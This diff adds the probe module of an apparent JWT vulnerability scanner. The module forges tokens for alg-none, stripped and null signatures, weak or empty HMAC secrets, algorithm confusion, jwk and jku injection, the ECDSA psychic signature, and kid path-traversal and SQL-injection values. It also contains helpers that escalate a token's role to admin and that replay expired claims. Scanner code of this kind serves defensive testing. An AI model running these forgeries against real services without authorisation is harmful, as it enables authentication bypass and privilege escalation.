@@ -1,0 +1,181 @@
+"""What the scan sends: one forgery probe per attack, and the claims of the two claim probes.
+
+Each probe forges its tokens with the forgers of ``labkit.attacks``; ``escalate``
+and ``_expired`` edit the claims that the role-escalation and expired-replay
+probes send with whichever technique worked.
+"""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Callable
+from dataclasses import dataclass
+from typing import TYPE_CHECKING, Any
+from urllib.parse import urlsplit
+
+from labkit import tokens
+from labkit.algorithms import sign_token
+from labkit.attacks import confusion, injection, none, psychic
+from labkit.scan.findings import _cut
+from labkit.scan.transport import _is_loopback
+
+if TYPE_CHECKING:
+    from labkit.scan.engine import _Scan
+
+_MARKER = "labkit-scan"  # the harmless claim the tampered-payload probe adds
+
+
+# The probes --------------------------------------------------------------------------------------
+
+Forge = Callable[["_Scan", dict[str, Any]], list[tuple[str, str]]]
+
+
+class _Skip(Exception):
+    """This probe does not apply here; the message says why."""
+
+
+@dataclass(frozen=True)
+class _Probe:
+    id: str
+    flaw: str
+    forge: Forge
+
+
+def _tampered_signature(s: _Scan, claims: dict[str, Any]) -> list[tuple[str, str]]:
+    head, body, _ = tokens.split(s.token)
+    if claims != s.claims:
+        body = tokens.b64url_encode(tokens.json_bytes(claims))
+    flipped = bytearray(s.parsed.signature)
+    flipped[-1] ^= 0x01
+    return [("last signature bit flipped", f"{head}.{body}.{tokens.b64url_encode(bytes(flipped))}")]
+
+
+def _tampered_payload(s: _Scan, claims: dict[str, Any]) -> list[tuple[str, str]]:
+    edited = {**claims, _MARKER: "tampered"} if claims == s.claims else claims
+    return [("claim added, signature kept", none.forge_tampered(s.token, edited).token)]
+
+
+def _null_signature(s: _Scan, claims: dict[str, Any]) -> list[tuple[str, str]]:
+    if s.alg.startswith("ES"):
+        raise _Skip("zero bytes are r = s = 0 for ECDSA: the psychic probe sends that")
+    zeros = bytes(len(s.parsed.signature))
+    return [(f"{len(zeros)} zero bytes", tokens.encode(s.header, claims, zeros))]
+
+
+def _signature_stripped(s: _Scan, claims: dict[str, Any]) -> list[tuple[str, str]]:
+    return [(f"alg {s.alg}, empty signature", tokens.encode(s.header, claims))]
+
+
+def _alg_none(s: _Scan, claims: dict[str, Any]) -> list[tuple[str, str]]:
+    forged = none.forge_none(claims, header=s.header)
+    return [(f"alg {none.NONE_CASINGS[i]!r}", f.token) for i, f in enumerate(forged)]
+
+
+def _empty_secret(s: _Scan, claims: dict[str, Any]) -> list[tuple[str, str]]:
+    return [("HS256, empty key", none.forge_empty_secret(claims, header=s.header).token)]
+
+
+def _weak_secret(s: _Scan, claims: dict[str, Any]) -> list[tuple[str, str]]:
+    secret = s.cracked()
+    headers = {k: v for k, v in s.header.items() if k != "alg"}
+    token = sign_token(claims, secret, s.alg, headers=headers)
+    return [(f"signed with the cracked secret {_shown(secret)}", token)]
+
+
+def _confusion(s: _Scan, claims: dict[str, Any]) -> list[tuple[str, str]]:
+    key = s.public_key()
+    forged = confusion.forge_confusion(key, claims, header=s.header)
+    if not forged:
+        raise _Skip("the published key set has no public key to confuse")
+    return [(_confusion_label(f.explanation), f.token) for f in forged]
+
+
+def _jwk(s: _Scan, claims: dict[str, Any]) -> list[tuple[str, str]]:
+    return [("attacker's RSA key in jwk", injection.forge_jwk(claims).token)]
+
+
+def _jku(s: _Scan, claims: dict[str, Any]) -> list[tuple[str, str]]:
+    origin = s.transport.origin
+    if origin is not None and not _is_loopback(urlsplit(origin).hostname or ""):
+        # 127.0.0.1 in a jku would send a remote target to ITS own loopback: never do that
+        raise _Skip("the scanner's key server is on this machine; a remote target cannot reach it")
+    server = s.key_server()
+    forged = injection.forge_jku(claims, server.url, kid=s.header.get("kid"))
+    return [("jku -> the scanner's key server on 127.0.0.1", forged.token)]
+
+
+def _kid_traversal(s: _Scan, claims: dict[str, Any]) -> list[tuple[str, str]]:
+    return [("kid ../../dev/null, empty key", injection.forge_kid_traversal(claims).token)]
+
+
+def _kid_sql(s: _Scan, claims: dict[str, Any]) -> list[tuple[str, str]]:
+    return [("kid ' UNION SELECT '<secret>' --", injection.forge_kid_sql(claims).token)]
+
+
+def _psychic(s: _Scan, claims: dict[str, Any]) -> list[tuple[str, str]]:
+    return [("ES256, r = s = 0", psychic.forge(claims, header=s.header).token)]
+
+
+PROBES: tuple[_Probe, ...] = (
+    _Probe("tampered-signature", "signature-not-verified", _tampered_signature),
+    _Probe("tampered-payload", "signature-not-verified", _tampered_payload),
+    _Probe("null-signature", "signature-not-verified", _null_signature),
+    _Probe("signature-stripped", "unsigned-token-accepted", _signature_stripped),
+    _Probe("alg-none", "unsigned-token-accepted", _alg_none),
+    _Probe("empty-secret", "empty-hmac-secret", _empty_secret),
+    _Probe("weak-secret", "weak-hmac-secret", _weak_secret),
+    _Probe("confusion", "algorithm-confusion", _confusion),
+    _Probe("jwk", "jwk-injection", _jwk),
+    _Probe("jku", "jku-injection", _jku),
+    _Probe("kid-traversal", "kid-path-traversal", _kid_traversal),
+    _Probe("kid-sql", "kid-sql-injection", _kid_sql),
+    _Probe("psychic", "psychic-signature", _psychic),
+)
+"""The forgery probes in the order they run; ``expired-replay`` and ``role-escalation`` follow."""
+
+PROBE_IDS: tuple[str, ...] = (*(p.id for p in PROBES), "expired-replay", "role-escalation")
+
+
+def escalate(claims: dict[str, Any]) -> dict[str, Any]:
+    """``claims`` with the privileges raised: role admin (or admin added to roles/groups)."""
+    out = dict(claims)
+    changed = False
+    for name in ("role", "roles", "groups"):
+        value = out.get(name)
+        if isinstance(value, str):
+            out[name], changed = "admin", True
+        elif isinstance(value, list):
+            out[name], changed = [*value, "admin"] if "admin" not in value else value, True
+    for name in ("admin", "is_admin"):
+        if isinstance(out.get(name), bool):
+            out[name], changed = True, True
+    if not changed:
+        out["role"] = "admin"
+    return out
+
+
+def _expired(claims: dict[str, Any]) -> dict[str, Any]:
+    """The claims issued an hour before and expired a minute before the original token's iat."""
+    iat = claims.get("iat")
+    base = int(iat) if _number(iat) else int(time.time())
+    out = {**claims, "iat": base - 3600, "exp": base - 60}
+    if "nbf" in out:
+        out["nbf"] = base - 3600
+    return out
+
+
+def _number(value: object) -> bool:
+    return isinstance(value, (int, float)) and not isinstance(value, bool)
+
+
+def _shown(secret: bytes) -> str:
+    text = secret.decode("utf-8", errors="replace")
+    return repr(_cut(text, 24))
+
+
+def _confusion_label(explanation: str) -> str:
+    """'HS256 with the SubjectPublicKeyInfo PEM ... as the HMAC secret' -> a short variant name."""
+    for name, short in (("SubjectPublicKeyInfo", "SPKI PEM"), ("PKCS#1", "PKCS#1 PEM")):
+        if name in explanation:
+            return f"HS256 keyed with the {short}"
+    return "HS256 keyed with the PEM as published"
